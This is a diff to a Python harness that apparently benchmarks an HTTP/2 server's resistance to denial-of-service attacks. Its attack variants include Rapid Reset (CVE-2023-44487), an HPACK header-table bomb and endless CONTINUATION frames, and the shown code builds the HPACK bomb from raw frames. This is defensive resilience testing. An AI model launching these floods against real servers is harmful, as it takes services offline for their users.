@@ -20,7 +20,7 @@ subject each, through the database), with attack/baseline ratios.
 Attacks (raw frames written with python3-hyperframe and hpack):
   reset        HEADERS (GET by id) + RST_STREAM in a loop, 100 pairs a write  (CVE-2023-44487)
   reset-write  HEADERS + DATA (a registration) + RST_STREAM in a loop
-  hpack        one 4000-byte header put in the HPACK table, then requests that
+  hpack        one 3000-byte header put in the HPACK table, then requests that
                name it 16,000 times (one 16 KB frame) and again in CONTINUATIONs
   continuation HEADERS without END_HEADERS, then 16 KB CONTINUATIONs forever
   continuation-empty  the same with empty CONTINUATIONs (no bytes to buffer)
@@ -235,10 +235,11 @@ def attack_hpack(port, stop):
     while not stop.is_set():
         if sid == 1:
             a.connect()
-            # Literal with incremental indexing: x-bomb puts 4000 bytes in the table (index 62).
-            first = a.enc.encode(req_headers("GET", "/schemas/ids/1") + [("x-bomb", "b" * 4000)])
+            # Literal with incremental indexing: x-bomb puts 3000 bytes in the table (index 62).
+            first = a.enc.encode(req_headers("GET", "/schemas/ids/1") + [("x-bomb", "b" * 3000)])
             ok = a.send(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize(), 1)
             base = a.enc.encode(req_headers("GET", "/schemas/ids/1"))
+            assert a.enc.header_table.dynamic_entries[0][0] == b"x-bomb"   # the newest entry: index 62
             sid = 3
             if not ok:
                 sid = 1
@@ -451,7 +452,8 @@ def main():
                   f"{hit['read_p50']:6.2f}/{hit['read_p99']:<6.2f} {row['read_p99_ratio']:6.1f} "
                   f"{base['write_p99']:8.1f}/{hit['write_p99']:<8.1f} {hit['errors']:4d}  "
                   f"{json.dumps(hit['attacker'])}", flush=True)
-        closes = sum(1 for line in server.log_text().splitlines() if "closing a connection" in line)
+        with open(server.log, errors="replace") as f:
+            closes = sum(1 for line in f if "closing a connection" in line)
         print(f"  ({variant}: {closes} 'closing a connection' log lines)", flush=True)
         server.stop()
     if args.json:
